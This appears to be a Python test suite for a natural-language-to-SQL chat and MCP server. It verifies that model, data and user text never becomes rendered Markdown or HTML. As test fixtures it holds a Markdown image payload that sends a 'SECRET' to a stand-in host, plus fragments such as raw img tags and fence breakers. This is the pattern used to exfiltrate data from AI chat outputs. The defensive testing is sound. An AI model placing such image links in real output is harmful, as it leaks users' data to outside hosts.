"""Nothing that a model, the data or a person writes becomes markup in a chat, or in MCP's text.

Judged by a reader of CommonMark with tables, and by the signs alone, in every place with a text.
"""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from datetime import UTC, datetime

import pytest
from hypothesis import example, given, settings, strategies as st
from markdown_it import MarkdownIt
from starlette.types import ASGIApp

from execution.guard.guard import SqlGuard
from nl2sql.answers import Answer, Answered, Clarify, Failed, Refused, Trace
from nl2sql.types import Interpretation, ResultSet, VerifiedQuery
from serve_app.http.openai.content import render_answer
from serve_app.http.openai.conversation import answer_task, find_queries
from serve_app.mcp.documents import build_answer, write_json
from serve_app.mcp.tools import render_error
from tests.fakes import (
    SHOP,
    FakeCatalogs,
    FakeGenerator,
    build_candidate,
    build_generated,
    build_question,
    build_result,
    build_settings,
)
from tests.retrieval.directories import build_directory
from tests.serve_app.interfaces import read_stream
from tests.serve_app.mcp.clients import connect_http, read_text
from tests.serve_app.served import build_app, connect

IMAGE = "![pic](https://example.invalid/?d=SECRET)"
_PIECES = (
    "![", "](", "](<", "https://x.invalid/?d=", "//x.invalid", ")", "[a]: ", "[a]", "<https://x>",
    "```", "````", "```sql", "~~~", "`", "\n", "\n\n", "\r", "\r\n", "\u2028", "\\", "|", "\t",
    "<img src=//x.invalid>", "<!--", "&#33;", "&lt;", "    ", "> ", "1. ", "- ", "# ", "---", "$$",
    "*", "_", "~", "a", " ", "Reference: `ref_x`", "| --- |", "===", "\0", IMAGE,
    "www.", "@x.invalid",
)  # fmt: skip
TEXTS = st.lists(st.sampled_from(_PIECES), max_size=9).map("".join)
READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


@st.composite
def draw_answers(draw: st.DrawFn) -> tuple[Answer, list[str]]:
    """An answer with such texts in all places, and the queries that it shows."""

    def text() -> str:
        return draw(TEXTS)

    trace = Trace(build_question(text=text() or "?"), asked=text(), notes=(text(), text()))
    sql = f"SELECT {text()} x"
    match draw(st.sampled_from(["answered", "clarify", "refused", "failed"])):
        case "answered":
            rows = ((text(), [text()]), ({text(): text()}, None))
            result = ResultSet((text(), text()), ("text", "json"), rows, truncated=False, ms=1.0)
            verified = VerifiedQuery(sql, text(), datetime(2026, 1, 2, tzinfo=UTC), "feedback")
            shown = Answered(
                sql,
                result,
                0.5,
                False,
                trace,
                text=text(),
                description=text(),
                verified=draw(st.sampled_from([None, verified])),
            )
            return shown, [sql]
        case "clarify":
            other = f"SELECT {text()} y"
            readings = [
                Interpretation(each, text(), 0.5, result=build_result((text(), [text()])))
                for each in (sql, other)
            ]
            return Clarify(text(), 0.2, tuple(readings), trace), [sql, other]
        case "refused":
            return Refused("off_topic", text(), trace, (text(), text())), []
        case _:
            return Failed(text(), trace), []


def list_markup(content: str) -> list[str]:
    """The tokens that could show, fetch or run anything, but for line breaks in cells."""
    tokens = [
        inner for token in READER.parse(content) for inner in (token, *(token.children or ()))
    ]
    return [
        f"{token.type} {token.content}"
        for token in tokens
        if token.type in ("image", "link_open", "html_block", "html_inline", "code_inline")
        and token.content != "<br>"
    ]


def leave_out_fences(content: str) -> str:
    """The lines outside fences, as a reader of CommonMark finds them."""
    lines = re.split(r"\r\n|\r|\n", content)
    for token in READER.parse(content):
        if token.type == "fence" and token.map:
            start, end = token.map
            lines[start:end] = [""] * (end - start)
    return "\n".join(lines)


def check_plain(content: str) -> None:
    """No markup, no sign of a link, and no address that a reader could find, outside fences."""
    assert list_markup(content) == [], content
    outside = leave_out_fences(content)
    assert not re.search(r"\]\(|//|www\.|(?<!\\)(@|<(?!br>))", outside), outside


@settings(max_examples=200, deadline=None)
@given(draw_answers())
def test_no_text_is_markup_in_a_chat(drawn: tuple[Answer, Sequence[str]]) -> None:
    answer, queries = drawn
    content = render_answer(answer)
    check_plain(content)
    fences = [token for token in READER.parse(content) if token.type == "fence"]
    # As Markdown has line ends and the null character.
    shown = [re.sub(r"\r\n|\r", "\n", sql).replace("\0", "\ufffd") for sql in queries]
    assert [token.content for token in fences] == [f"{sql}\n" for sql in shown]
    # Nor is it taken for a query when the message comes back.
    assert find_queries(content) == tuple(queries)


@settings(max_examples=100, deadline=None)
@given(draw_answers())
def test_no_text_is_markup_over_mcp(drawn: tuple[Answer, Sequence[str]]) -> None:
    answer, _ = drawn
    document = build_answer(answer)
    text = write_json(document)
    assert not re.search(r"\]\(|://|<", text), text
    assert json.loads(text) == json.loads(json.dumps(document))
    if isinstance(answer, Refused):
        check_plain(read_text(render_error(answer.reason)))


@settings(max_examples=200, deadline=None)
@given(TEXTS)
@example(IMAGE)
def test_no_title_is_markup(text: str) -> None:
    for wish in ("", '"title"'):
        told = answer_task(f"### Task:\n{wish}\nUSER: {text}\n")
        assert told is not None
        check_plain(told)


# -- the whole way ---------------------------------------------------------------------------------

FIRST = f"SELECT name FROM customers WHERE name LIKE '{IMAGE}'"
SECOND = f"SELECT name AS \"{IMAGE}\" FROM customers WHERE name <> '``` {IMAGE}'"


def build(min_confidence: float) -> ASGIApp:
    both = build_generated(build_candidate(FIRST), build_candidate(SECOND, id="c2"), samples=2)
    sure = build_settings(ranking={"min_confidence": min_confidence})
    generator = FakeGenerator(*[both] * 9)
    rows = {FIRST: [build_result((IMAGE,))] * 40, SECOND: [build_result((1,), (2,))] * 40}
    schemas = build_directory(SqlGuard(FakeCatalogs(SHOP)))
    return build_app(sure, generator=generator, results=rows, schemas=schemas)


@pytest.mark.parametrize("min_confidence", [0.0, 0.9], ids=["answered", "clarify"])
async def test_a_literal_is_no_image(min_confidence: float) -> None:
    app = build(min_confidence)
    body = {"model": "shop", "messages": [{"role": "user", "content": f"Who is {IMAGE}?"}]}
    async with connect(app) as client:
        whole = await client.post("/v1/chat/completions", json=body)
        streamed = await client.post("/v1/chat/completions", json={**body, "stream": True})
    contents = whole.json()["choices"][0]["message"]["content"], *read_stream(streamed.text)
    for content in contents:
        check_plain(content)
    assert "SECRET" in leave_out_fences(contents[0])
    assert contents[0] == contents[1]
    async with connect_http(app) as client:
        for tool, key in (("ask", "question"), ("translate", "question"), ("run_sql", "sql")):
            result = await client.call_tool(tool, {key: SECOND if key == "sql" else "Who?"})
            assert not re.search(r"\]\(|://", read_text(result)), result


def test_a_doubtful_answer_shows_the_nearest_rows_and_some_of_the_other() -> None:
    rows = build_result(*((f"row {number}",) for number in range(5)))
    readings = [Interpretation(f"SELECT {at}", f"reading {at}", 0.5, result=rows) for at in (1, 2)]
    content = render_answer(
        Clarify("It is unclear.", 0.2, tuple(readings), Trace(build_question()))
    )
    assert content.startswith("**Not sure.** It is unclear.")
    first, second = content.split("2. reading 2")
    assert "row 4" in first
    assert "row 2" in second
    assert "row 3" not in second
    assert find_queries(content) == ("SELECT 1", "SELECT 2")
